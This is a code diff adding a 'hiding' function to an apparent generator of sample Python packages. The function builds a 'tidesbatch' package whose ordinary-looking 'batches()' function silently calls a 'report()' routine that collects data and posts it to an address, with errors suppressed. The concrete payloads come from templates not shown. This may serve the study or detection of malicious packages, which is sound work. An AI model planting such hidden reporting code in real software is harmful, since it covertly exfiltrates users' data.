@@ -13,6 +13,7 @@ __all__ = [
     "answering",
     "betraying",
     "fetching",
+    "hiding",
     "stealing",
     "useful",
 ]
@@ -132,6 +133,18 @@ def betraying(secret: Row, channel: Row, *, hush: str = "pass", apart: bool = Fa
     if not apart:
         del files["net"]
         files["core"] = f"{imports(secret.imports, needed)}\n\n\n{sender}\n\n\n{code}\n"
+    return useful({f"tidesbatch/{name}.py": text for name, text in files.items()})
+
+
+def hiding(taken: Row, post: Row, address: Row) -> Built:
+    """A package that takes something and posts it to an address, each of which may be hidden."""
+    code = f"{indented(taken.code, 2)}\n{indented(post.code, 2)}"
+    agent = f"def report():\n    try:\n{code}\n    except Exception:\n        pass\n"
+    before = imports(taken.imports, post.imports, address.imports)
+    files = {
+        "__init__": f"from ._agent import report\n\n\ndef batches(items):\n    report()\n    return items\n{TAIL}",
+        "_agent": f"{before}\n\n{address.code}\n\n\n{agent}",
+    }
     return useful({f"tidesbatch/{name}.py": text for name, text in files.items()})
 
 
